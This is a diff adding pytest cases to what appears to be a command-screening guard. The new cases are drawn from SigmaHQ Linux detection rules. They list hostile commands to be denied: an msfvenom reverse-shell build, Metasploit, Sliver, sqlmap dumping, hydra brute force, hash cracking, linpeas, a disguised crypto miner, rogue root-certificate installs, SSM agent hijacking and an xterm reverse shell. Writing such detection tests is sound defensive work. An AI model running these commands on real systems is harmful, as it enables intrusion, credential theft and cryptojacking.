@@ -440,3 +440,37 @@ def test_copies_toward_cloud_storage_are_uploads(command: str,
 def test_an_empty_command_in_a_transfer_script_is_no_crash() -> None:
     # `smbclient … -c 'put a;'` split into an empty command and crashed the judgement
     assert _judged("smbclient //files.example/share -c 'put a;'") == ("ask", "upload")
+
+
+# SigmaHQ rules/linux/process_creation (commit 8eaafff1f): "Linux HackTool Execution",
+# "Linux Crypto Mining Indicators", "Install Root Certificate", "Potential Linux Amazon SSM
+# Agent Hijacking", "Potential Xterm Reverse Shell"
+@pytest.mark.parametrize(("command", "rule"), [
+    ("msfconsole -q", "attack-tool"),
+    ("msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.5 -f elf -o s.elf",
+     "attack-tool"),
+    ("/opt/sliver/sliver-client", "attack-tool"),
+    ("nuclei -u https://target.example", "attack-tool"),
+    ("sqlmap -u 'https://target.example/?id=1' --dump", "attack-tool"),
+    ("hydra -l admin -P rockyou.txt ssh://target.example", "attack-tool"),
+    ("john --wordlist=rockyou.txt hashes.txt", "attack-tool"),
+    ("nohup hashcat -m 0 h.txt w.txt &", "attack-tool"),
+    ("./linpeas.sh -a", "attack-tool"),
+    ("./xmrig --donate-level=0 -o pool.example:4444", "attack-tool"),
+    ("./.cache/kworker -a rx -o stratum+ssl://pool.example:443 -u wallet", "attack-tool"),
+    ("update-ca-certificates", "power"),
+    ("update-ca-trust extract", "power"),
+    ("trust anchor --store evil.crt", "power"),
+    ("amazon-ssm-agent -register -code c -id i -region us-east-1", "power"),
+    ("xterm -display 203.0.113.5:1", "remote-shell"),
+])
+def test_attack_tools_miners_and_foreign_trust_are_denied(command: str, rule: str) -> None:
+    assert _judged(command) == ("deny", rule)
+
+
+@pytest.mark.parametrize("command", [
+    "grep -rn 'stratum+tcp://' src/", "echo '--donate-level'", "trust list",
+    "xterm -display :0 -e vim", "httpx https://example.com", "python -m john_doe",
+])
+def test_naming_a_miner_or_a_local_display_is_not_an_attack(command: str) -> None:
+    assert _judged(command) is None
